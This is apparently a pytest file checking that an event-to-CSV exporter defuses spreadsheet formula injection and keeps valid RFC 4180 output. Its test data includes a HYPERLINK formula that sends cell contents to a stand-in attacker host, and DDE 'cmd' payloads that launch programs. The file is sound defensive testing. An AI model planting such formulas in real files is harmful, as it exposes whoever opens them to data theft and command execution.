"""Events as CSV: read back by a CSV reader, and harmless in a spreadsheet (attack A49)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from agentgate.adapters.exports.csv import COLUMNS, CommaSeparated, safe
from tests.contracts.export import ExportContract, exported, records
from tests.core.events import numbered, with_text


class TestCommaSeparated(ExportContract):
    begin = staticmethod(lambda _: CommaSeparated())


def rows(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode(), newline="")))


FORMULAS = [
    *["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "=", "-"],
    *[" =1+1", '"=1+1', "''=1", "\u00a0=1"],
    *["＝1+1", "＋1", "－1", "＠SUM(1)"],
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_compute_is_text(text: str) -> None:
    """A49."""
    assert safe(text) == "'" + text


@pytest.mark.parametrize("text", ["a;=1+1", 'a;"=1+1', "a; -1", "a;;=1", "a;\t=1", "a;＝1"])
def test_no_cell_of_a_semicolon_reader_begins_with_a_formula(text: str) -> None:
    """A49: a spreadsheet that splits at semicolons makes cells out of the middle of ours."""
    for cell in safe(text).split(";")[1:]:
        assert not cell or cell.startswith("'")


@pytest.mark.parametrize("text", ["", "a", "a=b", "1-2", "x@example.org", '{"q":"=1"}', "a;b", "2026-11-21T09:00:00Z"])
def test_other_text_stays(text: str) -> None:
    assert safe(text) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_nothing_that_people_wrote_begins_a_cell_as_a_formula(text: str) -> None:
    raw = exported(CommaSeparated(), numbered(with_text(text)))
    for row in csv.reader(io.StringIO(raw.decode(), newline="")):
        for cell in row:
            assert not cell.lstrip(" \u00a0\"'").startswith(("=", "+", "-", "@")) or cell.startswith("'")
            assert not cell.startswith(("\t", "\r", "\n"))


def test_a_reader_gets_the_columns_and_every_record_back() -> None:
    raw = exported(CommaSeparated(), records())
    found = rows(raw)
    assert tuple(found[0]) == COLUMNS
    assert [row["index"] for row in found] == [str(record.index) for record in records()]
    for row, record in zip(found, records(), strict=True):
        for name in ("at", "kind", "tenant", "session", "tool", "decision", "reason_code", "outcome", "id"):
            assert row[name] == str(record.fields.get(name, ""))
        assert row["body"] == ("" if record.raw_body is None else record.raw_body.decode())
        assert row["body"] == "" or json.loads(row["body"]) == record.body


def test_lines_end_as_rfc_4180_says() -> None:
    raw = exported(CommaSeparated(), records())
    assert raw.count(b"\r\n") == len(records()) + 1
    assert raw.replace(b"\r\n", b"").count(b"\n") == 0
